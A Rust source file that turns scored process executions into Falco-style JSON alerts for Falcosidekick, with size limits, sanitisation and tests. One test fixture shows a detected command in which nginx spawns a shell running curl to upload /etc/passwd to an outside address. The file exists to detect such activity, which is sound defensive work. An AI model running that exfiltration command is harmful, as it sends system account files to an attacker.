//! One alert as Falco posts it: sentence, priority, rule, time, fields, tags. It names the alert group, which is what
//! `anomalyctl explain`, `approve` and `deny` take, on the machine and without the daemon.
//!
//! Most of Falcosidekick's outputs drop fields that are no strings, Alertmanager makes a label of every field, and what
//! is above 4,096 bytes is cut. So every field is text, none has another value at every event, and the whole is kept
//! below that bound by shortening what is long.

use std::collections::BTreeMap;

use anomaly_baseline::Level;
use anomaly_baseline::text::printable;
use anomaly_scored::ScoredExecution;
use jiff::Timestamp;
use jiff::tz::TimeZone;
use serde::Serialize;

use super::rules::{Kind, is_image, rule};

/// The longest alert, in bytes.
const MAX_BYTES: usize = 4096;

/// The longest texts that are tried, in bytes, until the whole fits.
const LENGTHS: [usize; 5] = [200, 150, 100, 50, 20];

/// Names are shorter than that, unless somebody plays with them.
const MAX_NAME: usize = 64;

#[derive(Debug, Serialize)]
struct Alert {
    /// The same when the alert is sent again.
    #[serde(skip_serializing_if = "Option::is_none")]
    uuid: Option<String>,
    output: String,
    priority: &'static str,
    rule: &'static str,
    source: &'static str,
    tags: &'static [&'static str],
    time: String,
    hostname: String,
    output_fields: BTreeMap<&'static str, String>,
}

/// The body of the request; with the address of the page, its text ends with a link to the execution. A field with it
/// would have another value at every event.
pub(super) fn alert(execution: &ScoredExecution, page: Option<&str>) -> Vec<u8> {
    let mut body = Vec::new();
    for length in LENGTHS {
        body = serde_json::to_vec(&shortened(execution, page, length))
            .expect("an alert is text, and memory takes every byte");
        if body.len() <= MAX_BYTES {
            break;
        }
    }
    body
}

fn shortened(execution: &ScoredExecution, page: Option<&str>, length: usize) -> Alert {
    let short = |text: &str| printable(text, length);
    let name = |text: &str| printable(text, length.min(MAX_NAME));
    let rule = rule(execution);
    let priority = priority(execution.level);
    let time = Timestamp::from_microsecond(execution.micros()).unwrap_or(Timestamp::UNIX_EPOCH);

    let mut fields = BTreeMap::new();
    fields.insert("anomaly.workload", short(&execution.workload));
    fields.insert(
        "anomaly.score",
        execution.score.map_or_else(|| "none".to_owned(), |score| score.to_string()),
    );
    fields.insert("anomaly.group", execution.group());
    fields.insert("anomaly.level", execution.level.as_str().to_owned());
    fields.insert("anomaly.threshold", execution.threshold.to_string());
    fields.insert("anomaly.reason", short(execution.reason.as_deref().unwrap_or_default()));
    fields.insert("anomaly.nearest", short(execution.nearest.as_deref().unwrap_or_default()));
    fields.insert("anomaly.proc_name", name(&execution.name));
    fields.insert("anomaly.proc_parent", name(&execution.parent));
    fields.insert("anomaly.proc_cmdline", short(&execution.command));
    fields.insert("anomaly.proc_uid", execution.uid.to_string());
    fields.insert("proc.name", name(&execution.name));
    fields.insert("proc.pname", name(&execution.parent));
    fields.insert("proc.cmdline", short(&execution.command));
    fields.insert("user.uid", execution.uid.to_string());
    if !execution.exe.is_empty() {
        fields.insert("proc.exepath", short(&execution.exe));
    }
    if is_image(&execution.workload) {
        fields.insert("container.image.repository", short(&execution.workload));
    }

    let moment = time.to_zoned(TimeZone::UTC).strftime("%H:%M:%S.%9f");
    let sentence = sentence(rule.kind, &fields);
    let uuid = uuid(&execution.id);
    // An id that is none of ours may hold anything.
    let link = match (page, &uuid) {
        (Some(page), Some(_)) => format!(" {page}/#/execution/{}", execution.id),
        _ => String::new(),
    };
    Alert {
        uuid,
        output: format!("{moment}: {priority} {sentence} group={}{link}", execution.group()),
        priority,
        rule: rule.name,
        // Falco's own for what programs do.
        source: "syscall",
        tags: rule.tags,
        time: time.to_zoned(TimeZone::UTC).strftime("%Y-%m-%dT%H:%M:%S.%9fZ").to_string(),
        hostname: printable(&execution.host, MAX_NAME),
        output_fields: fields,
    }
}

/// The sentences of the rules file.
fn sentence(kind: Kind, fields: &BTreeMap<&'static str, String>) -> String {
    let field = |name: &str| fields.get(name).map_or("", String::as_str);
    let (workload, parent, name) =
        (field("anomaly.workload"), field("anomaly.proc_parent"), field("anomaly.proc_name"));
    let what = match kind {
        Kind::Connection => format!(
            "In {workload}, {parent} started {name} with a network connection as its input, which is new there"
        ),
        Kind::ServerChild => format!("In {workload}, the server {parent} started {name}, which is new there"),
        Kind::NetworkTool => {
            format!("In {workload}, {parent} started the network tool {name}, which is new there")
        }
        Kind::Shell => {
            format!("In {workload}, {parent} started the shell or interpreter {name}, which is new there")
        }
        Kind::FirstSeenBinary => {
            format!("In {workload}, {parent} started {name}, a binary not seen in this container before")
        }
        Kind::Execution => {
            format!("In {workload}, {parent} started {name} as it has not been started there before")
        }
        Kind::Act => format!("In {workload}, {name} did what it has not been seen to do there"),
    };
    format!(
        "{what} (score {}, {}): {} | command={} nearest={} uid={}",
        field("anomaly.score"),
        field("anomaly.level"),
        field("anomaly.reason"),
        field("anomaly.proc_cmdline"),
        field("anomaly.nearest"),
        field("anomaly.proc_uid"),
    )
}

/// What Falco calls it.
const fn priority(level: Level) -> &'static str {
    match level {
        Level::Critical => "Critical",
        Level::Warn => "Warning",
        Level::Normal => "Notice",
        Level::Learning => "Informational",
    }
}

/// 32 hexadecimal digits as a UUID; `None` where it is something else.
fn uuid(id: &str) -> Option<String> {
    if id.len() != 32 || !id.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return None;
    }
    Some([&id[..8], &id[8..12], &id[12..16], &id[16..20], &id[20..]].join("-"))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;
    use crate::testing::execution;

    #[test]
    fn an_alert_ends_with_the_link_to_its_execution() {
        let output = |execution: &ScoredExecution| {
            let alert: serde_json::Value =
                serde_json::from_slice(&alert(execution, Some("https://page.internal"))).expect("JSON");
            alert["output"].as_str().expect("text").to_owned()
        };
        let ours = execution(3);
        assert!(output(&ours).ends_with(&format!(" https://page.internal/#/execution/{}", ours.id)));
        let strange = ScoredExecution { id: "x\n".into(), ..ours };
        assert!(!output(&strange).contains("#/execution"));
    }

    #[test]
    fn an_alert_reads_as_falco_writes_it() {
        let alert: serde_json::Value = serde_json::from_slice(&alert(&execution(3), None)).expect("JSON");
        assert_eq!(
            alert,
            json!({
                "uuid": "00000000-0000-0000-0000-000000000003",
                "output": "08:00:00.003000000: Warning In library/nginx, the server nginx started sh, which is new there \
                    (score 0.9312, warn): new: parent nginx, flag --upload-file \
                    | command=sh -c curl --upload-file /etc/passwd http://203.0.113.9/ \
                    nearest=curl -s http://127.0.0.1/healthz uid=33 group=g24d34ed12ea06330",
                "priority": "Warning",
                "rule": "Novel child of a server",
                "source": "syscall",
                "tags": ["maturity_sandbox", "host", "container", "process", "mitre_initial_access", "T1190"],
                "time": "2026-03-02T08:00:00.003000000Z",
                "hostname": "web-1",
                "output_fields": {
                    "anomaly.group": "g24d34ed12ea06330",
                    "anomaly.level": "warn",
                    "anomaly.nearest": "curl -s http://127.0.0.1/healthz",
                    "anomaly.proc_cmdline": "sh -c curl --upload-file /etc/passwd http://203.0.113.9/",
                    "anomaly.proc_name": "sh",
                    "anomaly.proc_parent": "nginx",
                    "anomaly.proc_uid": "33",
                    "anomaly.reason": "new: parent nginx, flag --upload-file",
                    "anomaly.score": "0.9312",
                    "anomaly.threshold": "0.8500",
                    "anomaly.workload": "library/nginx",
                    "container.image.repository": "library/nginx",
                    "proc.cmdline": "sh -c curl --upload-file /etc/passwd http://203.0.113.9/",
                    "proc.exepath": "/usr/bin/dash",
                    "proc.name": "sh",
                    "proc.pname": "nginx",
                    "user.uid": "33",
                },
            })
        );
    }

    #[test]
    fn the_level_is_the_priority() {
        for (level, expected) in
            [(Level::Warn, "Warning"), (Level::Critical, "Critical"), (Level::Normal, "Notice")]
        {
            let text = alert(&ScoredExecution { level, ..execution(1) }, None);
            let alert: serde_json::Value = serde_json::from_slice(&text).expect("JSON");
            assert_eq!(alert["priority"], expected);
        }
    }

    /// Text as it comes from the kernel at worst.
    fn hostile() -> impl Strategy<Value = String> {
        prop_oneof![".{0,40}", "[\"\\\\\u{1}\u{202e}]{0,900}", "(?s).{0,600}"]
    }

    proptest! {
        #[test]
        fn the_strict_receiver_takes_whatever_was_executed(
            name in hostile(), parent in hostile(), command in hostile(), reason in hostile(), nearest in hostile(),
            workload in hostile(), exe in hostile(), id in hostile(), micros in 0i64..4_102_444_800_000_000,
        ) {
            let execution = ScoredExecution {
                name, parent, command, workload, exe, id,
                reason: Some(reason), nearest: Some(nearest), time: micros as f64 / 1e6, ..execution(1)
            };
            let received = anomaly_hosts::sidekick::receive(&alert(&execution, Some("http://127.0.0.1:7300")));
            prop_assert!(received.is_ok(), "{:?}", received);
        }
    }
}
